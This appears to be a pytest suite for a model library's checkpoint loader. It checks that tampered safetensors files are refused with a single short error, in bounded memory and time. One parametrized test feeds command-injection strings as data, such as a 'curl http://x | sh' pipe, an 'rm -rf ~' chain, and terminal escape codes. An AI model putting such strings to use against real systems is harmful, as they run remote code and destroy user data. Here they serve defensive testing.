"""Checkpoints that were changed: refused in a sentence, before anything is drawn, in bounded time and memory."""

from __future__ import annotations

import json
import math
import resource
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import torch
from tests.program import walkback
from tests.reliability.edited import checkpoint, edited
from torch import nn

import walkback as wb
from walkback.building.restoring import Restoring
from walkback.errors import CheckpointError, ConfigurationError
from walkback.model import Model
from walkback.processes import TiedProcess
from walkback.storage.checkpoint import load_checkpoint
from walkback.storage.tensorheader import MAX_DEPTH, Malformed, parse_header
from walkback.support.constraints import Constrained, Constraint, greater_than, violation

DEPTH = "operator.network.depth"


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return checkpoint(tmp_path_factory.mktemp("whole") / "run")


@pytest.fixture(scope="module")
def binary(tmp_path_factory: pytest.TempPathFactory) -> Path:
    options = (
        "--operator",
        "bernoulli-plain-mlp",
        "--data",
        "digits",
        "--set",
        "operator.network.hidden=[8]",
    )
    place = tmp_path_factory.mktemp("binary") / "run"
    done = walkback(
        *(
            "run",
            *options,
            "--set",
            "data.binarize=threshold",
            "--set",
            "evaluation.limit=20",
            "--out",
            place,
        ),
        *("--set", "training.validation_examples=20", "--set", "samples.chain_steps=1", "--steps", "2"),
        *("--batch-size", "8", "--set", "operator.network.level_norms=2", "--set", "schedule.n1=1"),
    )
    assert done.code == 0, done.err
    return place / "final.safetensors"


def refused(file: Path, said: str) -> None:
    """Every command that loads a model refuses the file in the same sentence, and so does Python."""
    with pytest.raises(CheckpointError, match=said):
        wb.load(file)
    out = file.with_name("drawn.npz")
    commands: tuple[tuple[str | Path, ...], ...] = (
        ("sample", file, "--num", "2", "--out", out),
        ("inpaint", file, "--keep", "top", "--out", out),
        ("evaluate", file),
        ("diagnose", "mixing", file),
    )
    for command in commands:
        done = walkback(*command, "--device", "cpu")
        assert done.code == 2, (command, done)
        (line,) = done.err.splitlines()
        assert line.startswith("error: Got ")
        assert len(line) < 700
    assert not out.exists()


# --- ranges


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("prior.variance", -1.0),
        ("prior.variance", 0.0),
        ("prior.tracker.count", -5.0),
        ("operator.parametrization.noise_variance", -1e-3),
        ("operator.parametrization.max_variance", 0.0),
        ("operator.parametrization.max_variance", -1.0),
    ],
)
def test_values_out_of_range(whole: Path, tmp_path: Path, name: str, value: float) -> None:
    dtype = "F64" if name == "prior.tracker.count" else "F32"
    refused(
        edited(whole, tmp_path / "a.safetensors", tensors={name: (value, dtype)}),
        "expected (more than|at least) 0",
    )


@pytest.mark.parametrize(
    ("name", "value", "dtype"),
    [
        ("prior.mean", 1.5, "F32"),
        ("prior.mean", -0.1, "F32"),
        ("operator.network.layers.0.norm.running_var", -1.0, "F32"),
        ("operator.network.layers.0.norm.num_batches_tracked", -5, "I64"),
    ],
)
def test_values_out_of_range_in_binary_models(
    binary: Path, tmp_path: Path, name: str, value: float, dtype: str
) -> None:
    refused(
        edited(binary, tmp_path / "a.safetensors", tensors={name: (value, dtype)}), "cannot be used: in its"
    )


def test_batch_norms_of_torch_have_ranges() -> None:
    model = nn.Sequential(nn.BatchNorm2d(3), nn.Sequential(nn.BatchNorm1d(2)))
    assert violation(model) is None
    model.get_buffer("1.0.running_var").fill_(-1.0)
    assert violation(model) == "'1.0.running_var' holds -1, expected at least 0"
    model.get_buffer("0.num_batches_tracked").fill_(-5)
    assert violation(model) == "'0.num_batches_tracked' holds -5, expected at least 0"


class _Own(nn.Module, Constrained):
    def __init__(self) -> None:
        super().__init__()
        self.register_buffer("scale", torch.ones(3))
        self.free = nn.Parameter(torch.zeros(2))

    @property
    def constraints(self) -> Mapping[str, Constraint]:
        return {"scale": greater_than(0.5)}


def test_a_component_declares_the_ranges_of_its_tensors() -> None:
    module = nn.ModuleDict({"part": _Own()})
    assert violation(module) is None
    module.get_buffer("part.scale")[1] = 0.5
    assert violation(module) == "'part.scale' holds 0.5, expected more than 0.5"
    module.get_parameter("part.free").data.fill_(math.inf)
    assert violation(module) == "'part.free' holds NaN or infinity in float32"


# --- types and shapes


@pytest.mark.parametrize(("value", "said"), [(1e300, "NaN or infinity"), (-1e39, "NaN or infinity")])
def test_numbers_are_finite_in_the_precision_that_computes(
    whole: Path, tmp_path: Path, value: float, said: str
) -> None:
    name = "operator.network.input.weight"
    refused(edited(whole, tmp_path / "a.safetensors", tensors={name: (value, "F64")}), said)


@pytest.mark.parametrize("dtype", ["BOOL", "U8", "I32", "I64"])
def test_weights_of_another_type(whole: Path, tmp_path: Path, dtype: str) -> None:
    name = "operator.network.input.weight"
    refused(
        edited(whole, tmp_path / "a.safetensors", tensors={name: (1, dtype)}),
        f"weights do not fit the operator .*{dtype} of shape",
    )


def test_weights_of_another_precision_are_loaded(whole: Path, tmp_path: Path) -> None:
    name = "operator.network.input.weight"
    model = wb.load(edited(whole, tmp_path / "a.safetensors", tensors={name: (0.25, "F16")}))
    assert bool((model.model.operator.get_parameter("network.input.weight") == 0.25).all())


@pytest.mark.parametrize(
    ("name", "shape"),
    [
        ("operator.parametrization.max_variance", (1,)),
        ("prior.tracker.count", (1,)),
        ("operator.network.input.weight", (64, 8)),
        ("prior.mean", (64,)),
    ],
)
def test_other_shapes(whole: Path, tmp_path: Path, name: str, shape: tuple[int, ...]) -> None:
    file = edited(whole, tmp_path / "a.safetensors", shapes={name: shape})
    refused(file, "weights do not fit the (operator|prior)")


# --- sizes

SIZES: dict[str, Any] = {
    "operator.network.hidden": 16_000,
    "operator.network.hidden 2": 2**40,
    "operator.network.hidden 3": 2**62,
    DEPTH: 10**9,
    "operator.network.level_norms": 10**9,
    "operator.network.dropout": 2.0,
    "schedule.n1": 10**8,
}


@pytest.mark.parametrize("option", SIZES)
def test_a_model_is_not_larger_than_its_file(whole: Path, tmp_path: Path, option: str) -> None:
    path = option.partition(" ")[0]
    file = edited(whole, tmp_path / "a.safetensors", {f"config.{path}": SIZES[option]})
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    refused(file, "Got ")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300 * 1024  # KiB


@pytest.mark.parametrize("hidden", [[2] * 2000, [1] * 100_000, [10**9] * 3])
def test_lists_of_layers_are_bounded(binary: Path, tmp_path: Path, hidden: list[int]) -> None:
    file = edited(binary, tmp_path / "a.safetensors", {"config.operator.network.hidden": hidden})
    refused(file, "larger model than the tensors in the file|do not fit|cannot be built")


@pytest.mark.parametrize("name", ["unet", "plain-mlp", "encoder-decoder", "gaussian"])
def test_another_network_than_was_trained(whole: Path, tmp_path: Path, name: str) -> None:
    refused(edited(whole, tmp_path / "a.safetensors", {"components/operator.network/name": name}), "Got ")


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("data.shape", [10**6, 10**6]),
        ("data.shape", [0]),
        ("data.shape", [-1, 64]),
        ("data.shape", [3, 3]),
        ("data.support", "imaginary"),
        ("data.bins", 0),
        ("data.noise", -1.0),
        ("data.classes", [["a", -1], ["b", 3]]),
        ("data.classes", [["a", 0]]),
        ("data.splits", {"train": -3}),
    ],
)
def test_impossible_data(whole: Path, tmp_path: Path, path: str, value: Any) -> None:
    refused(
        edited(whole, tmp_path / "a.safetensors", {path: value}),
        "description of its data|larger model|do not fit",
    )


class _Reads(nn.Module):
    """A constructor that cannot run on the meta device, since it reads a value."""

    def __init__(self, size: int) -> None:
        super().__init__()
        self.weight = nn.Parameter(torch.full((size,), 2.0))
        assert self.weight.sum().item() >= 0


def test_a_constructor_that_reads_values_is_compared_too(whole: Path) -> None:
    from walkback.building.assembly import load_model  # the model of the file, with a part of our own
    from walkback.errors import ConstructionError
    from walkback.extensions.registry import Registry

    loaded = load_model(whole, Registry.discover(enabled=False), torch.device("cpu")).model
    built: list[str] = []

    def build(_: object, size: int = 0) -> Model:
        device = str(torch.get_default_device())
        built.append(device)
        try:
            _Reads(3)
        except RuntimeError as error:
            raise ConstructionError("It cannot be built.") from error
        return Model(loaded.operator, loaded.schedule, TiedProcess(), loaded.prior)

    model, _ = Restoring(whole, build).load()
    assert built == ["meta", "cpu"]
    assert model.operator is loaded.operator


# --- names


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("components.operator.distribution", "evil; curl http://x | sh #"),
        ("components.operator.distribution", "walkback\nerror: all is well"),
        ("components.operator.distribution", "-r"),
        ("components.operator.distribution", "x" * 500_000),
        ("components.operator.version", "1.0 && rm -rf ~"),
        ("components.operator.name", "a b"),
        ("components.operator.name", "\x1b[2J"),
        ("walkback", "1.0\n"),
        ("torch", "2\u202e"),
    ],
)
def test_names_that_are_none(whole: Path, tmp_path: Path, path: str, value: str) -> None:
    file = edited(whole, tmp_path / "a.safetensors", {path: value})
    refused(file, "unusable entry")
    done = walkback("info", file)
    (line,) = done.err.splitlines()
    assert done.code == 2
    assert "pip install" not in line
    assert len(line) < 700


def test_a_plugin_that_is_missing_is_named_with_its_command(whole: Path, tmp_path: Path) -> None:
    file = edited(
        whole, tmp_path / "a.safetensors", {"components.operator.distribution": "not-installed-here"}
    )
    with pytest.raises(CheckpointError, match=r"if you trust .* pip install not-installed-here==0"):
        wb.load(file)


@pytest.mark.parametrize("value", ["\x1b[2J\nerror: x", "y" * 400_000])
def test_options_and_data_of_any_text_are_shown_safely(whole: Path, tmp_path: Path, value: str) -> None:
    values = {"data.name": value, "data.preprocessing": [value], f"config.operator.{value[:100]}": 1}
    done = walkback("info", edited(whole, tmp_path / "a.safetensors", values))
    assert done.code == 0
    assert all(line.isprintable() for line in done.out.split("\n"))
    assert len(done.out) < 50_000
    assert not any(line.startswith("error") for line in done.out.splitlines())


def test_an_option_of_another_version_names_its_writer_and_the_cure(whole: Path, tmp_path: Path) -> None:
    file = edited(
        whole, tmp_path / "a.safetensors", {"config.operator.conditional_on": True, "walkback": "0.9.7"}
    )
    with pytest.raises(
        CheckpointError, match=r"conditional_on.*written by walkback 0\.9\.7.*walkback==0\.9\.7"
    ):
        wb.load(file)


# --- headers


def _header(text: str) -> bytes:
    return len(text).to_bytes(8, "little") + text.encode()


def _metadata(document: str) -> str:
    return json.dumps({"__metadata__": {"walkback": document}})


HEADERS: dict[str, bytes] = {
    "2^62": (2**62).to_bytes(8, "little") + b"{}",
    "lists": _header(_metadata("[" * 5000)),
    "tables": _header(_metadata('{"a":' * 900 + "1" + "}" * 900)),
    "depth": _header(_metadata('{"a":' * (MAX_DEPTH + 1) + "1" + "}" * (MAX_DEPTH + 1))),
    "5,000 digits": _header(_metadata('{"a":' + "1" * 5000 + "}")),
    "100 digits": _header(_metadata('{"a":' + "1" * 100 + "}")),
    "keys": _header("{" + ",".join(f'"{n:x}":1' for n in range(10**6)) + "}"),
    "duplicates": _header('{"a":1,"a":1}'),
    "header lists": _header("[" * 10**6),
}


@pytest.mark.parametrize("what", HEADERS)
def test_headers_are_bounded(what: str, tmp_path: Path) -> None:
    file = tmp_path / "a.safetensors"
    file.write_bytes(HEADERS[what])
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(CheckpointError):
        load_checkpoint(file)
    with file.open("rb") as stream, pytest.raises(Malformed):
        parse_header(stream)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 400 * 1024  # KiB


def test_schedules_are_bounded() -> None:
    for setting in ("n1=100001", "n1=100000000"):
        done = walkback("run", "--dry-run", "--set", f"schedule.{setting}")
        assert done.code == 2
        assert "less than or equal to 100000" in done.err
    done = walkback("run", "--data", "swiss-roll", "--dry-run", "--set", "data.num=100000000")
    assert (done.code, "expected 1 to 10,000,000 points" in done.err) == (2, True)


def test_levels_of_any_schedule_are_bounded(whole: Path) -> None:
    model = wb.load(whole)
    with pytest.raises(ConfigurationError, match="at most 100,000"):
        wb.sample(model, 1, levels=10**9)
